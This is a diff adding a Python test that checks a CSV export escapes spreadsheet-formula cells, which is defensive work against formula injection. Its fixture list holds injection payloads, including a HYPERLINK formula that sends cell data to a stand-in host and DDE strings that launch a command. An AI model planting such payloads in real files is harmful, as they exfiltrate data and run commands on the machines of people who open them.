@@ -147,6 +147,48 @@ def test_csv_parses_with_the_csv_module_one_row_per_generation(
     _check_against_db(store, storage, records)
 
 
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_escaped(store: Store, storage: Storage) -> None:
+    """Issue item 14: prompts, errors and model names are third-party text; a cell that
+    starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or CR before one) is a formula to
+    Excel and LibreOffice. The CSV prefixes such cells with ``'``; JSONL keeps them as is."""
+    base = datetime(2026, 10, 1, tzinfo=UTC)
+    save(
+        store,
+        [
+            record(f"f{i}", created_at=base + timedelta(minutes=i), prompt=text, error=text)
+            for i, text in enumerate(FORMULAS)
+        ]
+        + [record("plain", created_at=base + timedelta(hours=1), prompt="a -=+@ b")],
+    )
+    out = io.StringIO(newline="")
+    write_export(store, storage.location, out, fmt="csv")
+    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(out.getvalue(), newline=""))}
+    for i, text in enumerate(FORMULAS):
+        assert rows[f"f{i}"]["prompt"] == "'" + text
+        assert rows[f"f{i}"]["error"] == "'" + text
+    assert rows["plain"]["prompt"] == "a -=+@ b", "only a leading character counts"
+    for row in rows.values():
+        for column, cell in row.items():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
+
+    lines = io.StringIO()
+    write_export(store, storage.location, lines, fmt="jsonl")
+    prompts = {
+        r["external_id"]: r["prompt"] for r in map(json.loads, lines.getvalue().splitlines())
+    }
+    assert [prompts[f"f{i}"] for i in range(len(FORMULAS))] == FORMULAS
+
+
 def test_since_bounds_by_creation_date(store: Store, storage: Storage) -> None:
     _fill(store)
     since = datetime(2026, 10, 4, tzinfo=UTC)
